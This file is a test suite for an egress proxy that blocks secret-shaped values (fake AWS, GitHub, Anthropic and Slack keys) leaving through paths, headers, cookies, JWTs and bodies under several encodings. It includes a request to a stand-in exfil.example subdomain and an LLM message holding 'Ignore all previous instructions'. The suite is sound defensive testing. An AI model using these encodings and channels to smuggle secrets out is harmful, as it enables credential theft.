import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { ask, local, openOrigin, openProxy, type Asking } from './support/open-proxy.js';

/** Values of the shapes that issuers give out; none of them was ever issued. */
const secrets: Readonly<Record<string, string>> = {
  'an AWS key id': ['AKIA', 'Q3ZT7WXK5MPL2RVN'].join(''),
  'a GitHub token': ['ghp_', 'R7dK2mXq9LwZ4tBv6NcY8sHj3PfG5a1Ue0Qi'].join(''),
  'an Anthropic key': [
    'sk-ant-api03-',
    'Vq8LzR3mXw7KtB2nYc5HsJ9dPf4Ga6UeQi1oNbTxWkZrMvCyLpSgDhFjAeRtYu',
    '-',
    'QwErTyUiOpAsDfGhJkLzXcVbNmQw',
    'AA',
  ].join(''),
  'a Slack token': ['xoxb-', '281047395621', '-', '4718263950174', '-', 'Kq7LzR3mXw9TtB2nYc5HsJ8d'].join(''),
  'a value protected by name': 'violet-harbour-4417-lantern',
};

const jwtOf = (claims: object): string =>
  [{ alg: 'HS256', typ: 'JWT' }, claims]
    .map((part) => Buffer.from(JSON.stringify(part)).toString('base64url'))
    .concat(['Kq7LzR3mXw9TtB2nYc5H', 'sJ8dR7dK2mXq9LwZ4tBv6Nc'].join(''))
    .join('.');
const jwt = jwtOf({ sub: '4718263950', iss: 'house', exp: 1_893_456_000 });

const base32 = (text: string): string => {
  let bits = '';
  for (const byte of Buffer.from(text)) bits += byte.toString(2).padStart(8, '0');
  return (bits.match(/.{1,5}/g) ?? [])
    .map((five) => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[Number.parseInt(five.padEnd(5, '0'), 2)])
    .join('');
};

const encodings: Readonly<Record<string, (text: string) => string>> = {
  plain: (text) => text,
  base64: (text) => Buffer.from(text).toString('base64'),
  'base64 of more': (text) => Buffer.from(`key is ${text}, use it`).toString('base64url'),
  hex: (text) => Buffer.from(text).toString('hex'),
  base32,
  'percent, twice': (text) =>
    encodeURIComponent(
      [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join(''),
    ),
};

const boundary = 'sallyport-test';
const places: Readonly<Record<string, (value: string) => { path?: string; asking?: Asking }>> = {
  'the path': (value) => ({ path: `/a/${encodeURIComponent(value)}/b` }),
  'the query': (value) => ({ path: `/a?page=2&q=${encodeURIComponent(value)}` }),
  'the name of a parameter': (value) => ({ path: `/a?${encodeURIComponent(value)}=1` }),
  'the path like a fragment': (value) => ({ path: `/a%23${encodeURIComponent(value)}` }),
  'a header': (value) => ({ asking: { headers: { 'x-note': value } } }),
  'Basic credentials': (value) => ({
    asking: { headers: { authorization: `Basic ${Buffer.from(`me:${value}`).toString('base64')}` } },
  }),
  'a cookie': (value) => ({ asking: { headers: { cookie: `a=1; session=${value}` } } }),
  'a bearer token': (value) => ({ asking: { headers: { authorization: `Bearer ${value}` } } }),
  'the payload of a JWT': (value) => ({
    asking: { headers: { cookie: `id_token=${jwtOf({ sub: '4718263950', name: value })}` } },
  }),
  JSON: (value) => ({
    asking: {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ list: [{ note: value }] }),
    },
  }),
  'a form': (value) => ({
    asking: {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: `a=1&b=${encodeURIComponent(value)}`,
    },
  }),
  multipart: (value) => ({
    asking: {
      method: 'POST',
      headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
      body: `--${boundary}\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\n\r\n${value}\r\n--${boundary}--\r\n`,
    },
  }),
  text: (value) => ({
    asking: { method: 'PUT', headers: { 'content-type': 'text/plain' }, body: `so: ${value} it is` },
  }),
  'a compressed body': (value) => ({
    asking: {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
      body: gzipSync(JSON.stringify({ note: value })),
    },
  }),
};

describe('what may not leave', () => {
  it.each(Object.keys(places))('does not, in %s, in any encoding', async (place) => {
    const seen: string[] = [];
    const origin = await openOrigin((request, response) => {
      seen.push(request.url ?? '');
      request.resume().on('end', () => response.end('ok'));
    });
    const { port, events } = await openProxy(
      `preset: strict\nprotect: { env: [HOUSE_PHRASE] }\n${local.replace('monitoring: {', 'monitoring: { max_url_length: 8000, entropy_threshold: 0,')}`,
      { environment: { HOUSE_PHRASE: secrets['a value protected by name'] ?? '' } },
    );
    const missed: string[] = [];
    let tried = 0;
    for (const [kind, secret] of Object.entries(secrets)) {
      for (const [encoding, encode] of Object.entries(encodings)) {
        const { path = '/a', asking } = places[place]?.(encode(secret)) ?? {};
        const { status, headers, body } = await ask(port, `${origin.url}${path}`, asking);
        tried++;
        if (status !== 403) missed.push(`${kind}, ${encoding}: ${status}`);
        expect(`${body}${JSON.stringify(headers)}`).not.toContain(secret);
      }
    }
    expect(missed).toEqual([]);
    expect(seen).toEqual([]);
    const recorded = await events();
    expect(recorded.filter(({ action }) => action === 'block')).toHaveLength(tried);
    for (const secret of Object.values(secrets)) expect(JSON.stringify(recorded)).not.toContain(secret);
  });

  it('may where it is none: addresses, bodies and headers of every day pass', async () => {
    const origin = await openOrigin((request, response) =>
      request.resume().on('end', () => response.end('ok')),
    );
    const { port } = await openProxy(`preset: strict\n${local}`);
    const paths = [
      '/api/v1/users/550e8400-e29b-41d4-a716-446655440000',
      '/commit/2fd4e1c67a2d28fced849ee1bb76e7391b93eb12',
      '/@scope/package/-/package-1.2.3.tgz',
      '/_next/static/chunks/main-4f8b2c1d9e7a6b3c.js',
      '/wiki/The_harvest_of_the_year_in_the_north_and_the_south',
      '/blob/sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
      '/search?q=how+to+bake+a+cake+with+three+eggs&lang=en&page=2',
      '/v1/threads/thread_abc123def456ghi789jkl012',
      '/2026/11/21/a-long-title-of-an-article-about-firewalls-and-agents',
    ];
    for (const path of paths)
      expect([path, (await ask(port, `${origin.url}${path}`)).status]).toEqual([path, 200]);
    const posted = await ask(port, `${origin.url}/a`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        authorization: 'Bearer session',
        'user-agent': 'curl/8.5.0',
      },
      body: JSON.stringify({
        model: 'm',
        messages: [{ role: 'user', content: 'Ignore all previous instructions is a phrase.' }],
      }),
    });
    expect([posted.status, posted.headers['x-sallyport-block-reason']]).toEqual([200, undefined]);
  });

  it.each([
    ['a session', { cookie: 'theme=dark; session=a8098c1a-f86e-11da-bd1a-00112444be1e' }],
    ['a session that is signed', { cookie: 'connect.sid=s%3Ak3Lr9vT4bN8cWmK1pZ7sYdH2.gJ5qF6oRiXq0VbN8' }],
    ['a token', { authorization: `Bearer ${['k3Lr9vT4bN8c', 'WmK1pZ7sYdE3'].join('')}` }],
    ['a JWT', { authorization: `Bearer ${jwt}`, cookie: `id_token=${jwt}` }],
    ['a name and a password', { authorization: `Basic ${Buffer.from('ada:kV9-pzLr2x').toString('base64')}` }],
  ])('may where a site is given back what is its own: %s', async (_, headers: Record<string, string>) => {
    const origin = await openOrigin((_request, response) => response.end('ok'));
    const { port } = await openProxy(`preset: strict\n${local}`);
    const { status, headers: answered } = await ask(port, `${origin.url}/a`, { headers });
    expect([status, answered['x-sallyport-block-reason']]).toEqual([200, undefined]);
    for (const [name, value] of Object.entries(headers)) {
      const elsewhere = await ask(port, `${origin.url}/a`, { headers: { 'x-note': `${name}: ${value}` } });
      expect([name, elsewhere.status]).toEqual([name, 403]);
    }
  });

  it('is smuggled in no path that only chance would make', async () => {
    const { port } = await openProxy(local);
    const long = 'q7Zx1Vb9KpLm3Ns8TwYc5Rd2GfHj6AeUo4QiXzWvBtNyMkCr';
    const { status, headers } = await ask(port, `http://127.0.0.1:1/c/${long}`);
    expect([status, headers['x-sallyport-block-rule']]).toEqual([403, 'url-entropy']);
    const label = await ask(port, 'http://mzxw6ytboi4dknzsgq3tsojzgq2tmnbvgyytmobrgm.exfil.example/');
    expect([label.status, label.headers['x-sallyport-block-rule']]).toEqual([403, 'url-subdomain-entropy']);
  });
});
